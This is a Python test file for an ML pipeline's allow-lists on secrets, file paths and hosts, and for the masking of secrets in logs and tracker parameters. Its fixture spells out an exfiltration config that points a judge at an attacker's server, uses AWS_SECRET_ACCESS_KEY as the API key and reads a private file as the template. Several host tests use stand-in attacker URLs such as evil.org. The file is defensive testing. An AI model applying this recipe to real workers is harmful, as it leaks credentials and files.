"""What a config can reach on a worker: the allow-lists for secrets, files and hosts (beside the one for code),
and secrets masked by their value (docs/trust-model.md).

The attack these close: whoever sets a deployment's parameters wrote a config whose HTTP judge sent the worker's
AWS secret (`api_key_env: AWS_SECRET_ACCESS_KEY`) and any readable file (`template: <path>`) to a server of theirs.
"""

import json
import os
import secrets
import threading
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
import yaml

from alignment_core.annotation.scorers import ALLOWED_CODE_ENV
from alignment_core.config import PipelineConfig
from alignment_core.preflight import (
    ALLOWED_HOSTS_ENV,
    ALLOWED_PATHS_ENV,
    check_allowed_host,
    check_allowed_path,
    check_allowed_secret,
    preflight_problems,
    quick_problems,
    reach_problems,
)
from alignment_core.redact import ALLOWED_SECRETS_ENV, MASK, redact, remember_secret_env, remember_secrets_in
from tests.test_annotation_http import serving

REPO = Path(__file__).resolve().parent.parent
ALLOW_LISTS = (ALLOWED_CODE_ENV, ALLOWED_SECRETS_ENV, ALLOWED_PATHS_ENV, ALLOWED_HOSTS_ENV)


class RecordingJudge(BaseHTTPRequestHandler):
    """An OpenAI-compatible server that serves "judge-model" and records every request it gets."""

    requests: list[tuple[str, str, dict]] = []
    lock = threading.Lock()

    def _record(self) -> None:
        with self.lock:
            self.requests.append((self.command, self.path, dict(self.headers)))

    def do_GET(self):  # noqa: N802
        self._record()
        body = json.dumps({"data": [{"id": "judge-model"}]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815


@pytest.fixture
def recording_judge():
    RecordingJudge.requests = []
    with serving(RecordingJudge) as url:
        yield url, RecordingJudge.requests


@pytest.fixture
def no_allow_lists(monkeypatch):
    """Every allow-list unset, as on the command line; monkeypatch restores what the test sets."""
    for name in ALLOW_LISTS:
        monkeypatch.setenv(name, "recorded")
        monkeypatch.delenv(name)
    return monkeypatch


def exfiltration_config(base_url: str, template: Path) -> PipelineConfig:
    """The attack: the worker's AWS secret as the judge's key, a file of the worker as its template, a judge of
    the attacker's; nothing else out of the ordinary."""
    return PipelineConfig.model_validate({
        "setup": "online_pairwise",
        "annotation": {"annotator": "judge_pairwise", "judge": {
            "backend": "http", "base_url": base_url, "model": "judge-model",
            "api_key_env": "AWS_SECRET_ACCESS_KEY", "template": str(template)}},
        "reweight": {"strategy": "margin"},
        "store": {"root": str(template.parent / "store")},
    })


def deployment_settings() -> dict[str, str]:
    """The allow-lists every deployment in deployments/prefect.yaml sets (and that they all set the same)."""
    document = yaml.safe_load((REPO / "deployments" / "prefect.yaml").read_text())
    settings = [deployment["work_pool"]["job_variables"]["env"] for deployment in document["deployments"]]
    assert all(setting == settings[0] for setting in settings)
    return settings[0]


def test_deployments_and_serve_set_every_allow_list_alike():
    import flows.serve

    assert set(deployment_settings()) == set(ALLOW_LISTS)
    assert flows.serve.ALLOW_LISTS == deployment_settings()


def test_the_bundled_configs_reach_only_what_the_deployments_allow(no_allow_lists):
    from alignment_core.config import load_config

    no_allow_lists.chdir(REPO)  # a deployment's working directory: $ALIGNMENT_CORE_HOME
    for name, value in deployment_settings().items():
        no_allow_lists.setenv(name, value)
    configs = sorted((REPO / "configs").glob("*.yaml"))
    assert len(configs) >= 8 and {path.name: reach_problems(load_config(path)) for path in configs} == {
        path.name: [] for path in configs}


def test_the_exfiltration_config_is_refused_under_the_deployments_settings(no_allow_lists, recording_judge,
                                                                           tmp_path):
    url, requests = recording_judge
    worker_secret = secrets.token_hex(16)
    no_allow_lists.setenv("AWS_SECRET_ACCESS_KEY", worker_secret)
    private = tmp_path / "private.txt"
    private.write_text("the worker's private file")
    cfg = exfiltration_config(url, private)

    # Without the allow-lists (the command line), the check of the endpoint alone sends it the secret.
    quick_problems(cfg)
    assert ("GET", "/v1/models", f"Bearer {worker_secret}") in [(c, p, h.get("Authorization")) for c, p, h in requests]

    requests.clear()
    for name, value in deployment_settings().items():
        no_allow_lists.setenv(name, value)
    problems = preflight_problems(cfg)
    assert requests == []  # refused before any request was made
    assert [problem.split(":")[0] for problem in problems] == [
        "annotation.judge.api_key_env", "annotation.judge.base_url", "annotation.judge.template"]
    assert ALLOWED_SECRETS_ENV in problems[0] and ALLOWED_HOSTS_ENV in problems[1] and ALLOWED_PATHS_ENV in problems[2]
    assert worker_secret not in "\n".join(problems)


def test_a_stage_flow_started_on_its_own_is_bounded_too(no_allow_lists, recording_judge, tmp_path):
    from alignment_core.preflight import PreflightError
    from flows.stages import _local

    url, requests = recording_judge
    cfg = exfiltration_config(url, tmp_path / "private.txt")
    assert _local(cfg.model_dump_json()).annotation.judge.base_url == url  # unrestricted: as given
    for name, value in deployment_settings().items():
        no_allow_lists.setenv(name, value)
    with pytest.raises(PreflightError, match="annotation.judge.api_key_env: .*ALIGNMENT_CORE_ALLOWED_SECRETS"):
        _local(cfg.model_dump_json())
    assert requests == []


@pytest.mark.parametrize("setting, value, refused", [
    (ALLOWED_SECRETS_ENV, "OPENAI_API_KEY", "annotation.judge.api_key_env"),
    (ALLOWED_HOSTS_ENV, "api.openai.com", "annotation.judge.base_url"),
    (ALLOWED_PATHS_ENV, "data", "annotation.judge.template"),
])
def test_each_allow_list_alone_refuses_only_its_resource(no_allow_lists, recording_judge, tmp_path, setting, value,
                                                         refused):
    url, requests = recording_judge
    no_allow_lists.setenv(setting, value)
    private = tmp_path / "private.jinja"
    private.write_text("{{ prompt }}")
    problems = reach_problems(exfiltration_config(url, private))
    assert [problem.split(":")[0] for problem in problems] == [refused] and setting in problems[0]
    no_allow_lists.setenv(setting, "*")
    assert reach_problems(exfiltration_config(url, private)) == []
    assert requests == []


def test_a_path_allow_list_at_its_edges(no_allow_lists, tmp_path):
    allowed, sibling, outside = tmp_path / "data", tmp_path / "data2", tmp_path / "outside"
    for folder in (allowed, sibling, outside):
        folder.mkdir()
    (outside / "secret.txt").write_text("x")
    (allowed / "prompts.jsonl").write_text("x")
    (allowed / "escape.jinja").symlink_to(outside / "secret.txt")
    (allowed / "inner").symlink_to(allowed)  # a symlink that stays inside
    no_allow_lists.setenv(ALLOWED_PATHS_ENV, str(allowed))
    for path in (allowed, allowed / "prompts.jsonl", allowed / "inner" / "prompts.jsonl", f"{allowed}/"):
        check_allowed_path(str(path))
    for path in (sibling / "prompts.jsonl", sibling, allowed / "escape.jinja", f"{allowed}/../outside/secret.txt",
                 tmp_path):
        with pytest.raises(ValueError, match=f"outside the folders a config may read here: {ALLOWED_PATHS_ENV}"):
            check_allowed_path(str(path))
    # A relative entry is a folder of the working directory (a deployment's: ALIGNMENT_CORE_HOME).
    no_allow_lists.chdir(tmp_path)
    no_allow_lists.setenv(ALLOWED_PATHS_ENV, "data")
    check_allowed_path("data/prompts.jsonl")
    with pytest.raises(ValueError, match="outside"):
        check_allowed_path("data2/prompts.jsonl")


def test_the_paths_a_config_reads_are_all_checked(no_allow_lists, tmp_path):
    (tmp_path / "model").mkdir()
    (tmp_path / "prompts.jsonl").write_text("x")
    (tmp_path / "accelerate.yaml").write_text("x")
    cfg = PipelineConfig.model_validate({
        "setup": "online_pairwise", "model": {"policy": str(tmp_path / "model")},
        "data": {"source": str(tmp_path / "prompts.jsonl"), "eval_source": str(tmp_path / "prompts.jsonl")},
        "annotation": {"annotator": "judge_pairwise", "judge": {"backend": "local", "model": "tiny://llama",
                                                                "template": str(tmp_path / "mine.jinja")}},
        "reweight": {"strategy": "margin"}, "training": {"accelerate_config": str(tmp_path / "accelerate.yaml")}})
    no_allow_lists.setenv(ALLOWED_PATHS_ENV, str(tmp_path / "elsewhere"))
    assert [problem.split(":")[0] for problem in reach_problems(cfg)] == [
        "model.policy", "data.source", "data.eval_source", "annotation.judge.template", "training.accelerate_config"]
    no_allow_lists.setenv(ALLOWED_PATHS_ENV, str(tmp_path))
    assert reach_problems(cfg) == []


def test_an_offline_run_evaluating_with_a_judge_is_bounded_too(no_allow_lists, tmp_path):
    (tmp_path / "judge").mkdir()
    cfg = PipelineConfig.model_validate({"setup": "sft", "training": {"loss": "sft"}, "annotation": {
        "annotator": "judge_pairwise", "judge": {"backend": "http", "base_url": "http://evil.org/v1", "model": "m"}}})
    no_allow_lists.setenv(ALLOWED_HOSTS_ENV, "api.openai.com")
    assert [problem.split(":")[0] for problem in reach_problems(cfg)] == ["annotation.judge.base_url"]
    local = PipelineConfig.model_validate({"setup": "sft", "training": {"loss": "sft"}, "annotation": {
        "annotator": "judge_pairwise", "judge": {"backend": "local", "model": str(tmp_path / "judge")}}})
    no_allow_lists.setenv(ALLOWED_PATHS_ENV, "data")
    assert [problem.split(":")[0] for problem in reach_problems(local)] == ["annotation.judge.model"]


def test_remote_model_code_needs_every_module_allowed(no_allow_lists):
    cfg = PipelineConfig.model_validate({"model": {"policy": "acme/tiny-chat", "trust_remote_code": True}})
    assert reach_problems(cfg) == []
    no_allow_lists.setenv(ALLOWED_CODE_ENV, "alignment_core.")
    assert [problem.split(":")[0] for problem in reach_problems(cfg)] == ["model.trust_remote_code"]
    no_allow_lists.setenv(ALLOWED_CODE_ENV, "*")
    assert reach_problems(cfg) == []


def test_a_host_allow_list_at_its_edges(no_allow_lists):
    no_allow_lists.setenv(ALLOWED_HOSTS_ENV, "api.openai.com, 127.0.0.1:8000")
    for url in ("https://api.openai.com/v1", "http://api.openai.com:8443/v1", "http://127.0.0.1:8000/v1",
                "http://user:pw@127.0.0.1:8000/v1"):
        check_allowed_host(url)
    for url in ("http://127.0.0.1:8001/v1", "http://127.0.0.1/v1", "https://api.openai.com.evil.org/v1",
                "http://evil.org/api.openai.com/v1", "http://api.openai.com@evil.org/v1", "http://localhost:8000/v1"):
        with pytest.raises(ValueError, match=f"is not one a config may call here: {ALLOWED_HOSTS_ENV}"):
            check_allowed_host(url)


def test_a_secret_allow_list_names_whole_variables(no_allow_lists):
    no_allow_lists.setenv(ALLOWED_SECRETS_ENV, "OPENAI_API_KEY")
    check_allowed_secret("OPENAI_API_KEY")
    for name in ("OPENAI_API_KEY_2", "OPENAI", "AWS_SECRET_ACCESS_KEY"):
        with pytest.raises(ValueError, match=f"{ALLOWED_SECRETS_ENV} allows \\['OPENAI_API_KEY'\\]"):
            check_allowed_secret(name)
    no_allow_lists.setenv(ALLOWED_SECRETS_ENV, "")
    with pytest.raises(ValueError, match="allows none"):
        check_allowed_secret("OPENAI_API_KEY")


# ---- secrets masked by their value -----------------------------------------------------------------------


def test_secrets_are_masked_by_value_whatever_their_shape(monkeypatch):
    plain, other, jwt = secrets.token_hex(16), secrets.token_urlsafe(24), "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", plain)
    monkeypatch.setenv("MY_SERVICE_TOKEN", jwt)  # secret-shaped name
    monkeypatch.setenv("JUDGE_LOGIN", other)  # not secret-shaped: masked once a config names it
    monkeypatch.setenv("SHORT_KEY", "1")  # too short to mask
    text = (f"401 Incorrect API key provided: {plain}\n<html><body>denied {jwt}</body></html>\n"
            f'{{"error": "bad {other}"}} at https://api/x?k={plain[:8]}1 and 1 or 10')
    masked = redact(text)
    assert plain not in masked and jwt not in masked and masked.count(MASK) == 2
    remember_secret_env("JUDGE_LOGIN")
    assert other not in redact(text)
    assert json.loads(redact(text).splitlines()[2].split(" at ")[0]) == {"error": f"bad {MASK}"}  # still JSON
    assert redact("k=1 and 10 and 1") == "k=1 and 10 and 1"
    remember_secrets_in("store: s3://admin:open-sesame-42@minio:9000/runs")
    assert redact("password was open-sesame-42") == f"password was {MASK}"
    url_escaped = "abc/def+ghi" + plain
    monkeypatch.setenv("AWS_SESSION_TOKEN", url_escaped)
    assert redact("?token2=abc%2Fdef%2Bghi" + plain) == f"?token2={MASK}"


def test_tracker_params_carry_no_secret(monkeypatch, tmp_path):
    from alignment_core.tracking import config_params

    plain = secrets.token_hex(16)
    monkeypatch.setenv("JUDGE_LOGIN", plain)
    cfg = PipelineConfig.model_validate({
        "annotation": {"judge": {"api_key_env": "JUDGE_LOGIN", "template": f"{tmp_path}/{plain}.jinja"}},
        "store": {"root": str(tmp_path), "endpoint_url": "http://admin:open-sesame-99@127.0.0.1:9000"}})
    reach_problems(cfg)  # what a flow run does first: the secrets the config names are remembered
    params = config_params(cfg, "s3://admin:open-sesame-99@127.0.0.1:9000/runs/r")
    text = json.dumps(params)
    assert "open-sesame-99" not in text and plain not in text
    assert params["store.endpoint_url"] == "http://admin:***@127.0.0.1:9000" and params["store.root"] == str(tmp_path)


def test_log_records_are_masked_once_redaction_is_installed(monkeypatch, caplog):
    import logging

    from alignment_core.redact import install_log_redaction

    plain = secrets.token_hex(16)
    monkeypatch.setenv("HF_TOKEN", plain)
    monkeypatch.setattr(logging, "_logRecordFactory", logging.getLogRecordFactory())  # restored after the test
    install_log_redaction()
    install_log_redaction()
    try:
        raise ValueError(f"token={plain} refused")
    except ValueError:
        logging.getLogger("alignment_core.test").exception("the hub said %s", plain)
    assert caplog.records and plain not in caplog.text and MASK in caplog.text
    assert plain not in logging.Formatter().format(caplog.records[0])  # the traceback too


def test_no_test_leaves_an_allow_list_set():
    assert not set(ALLOW_LISTS) & set(os.environ)
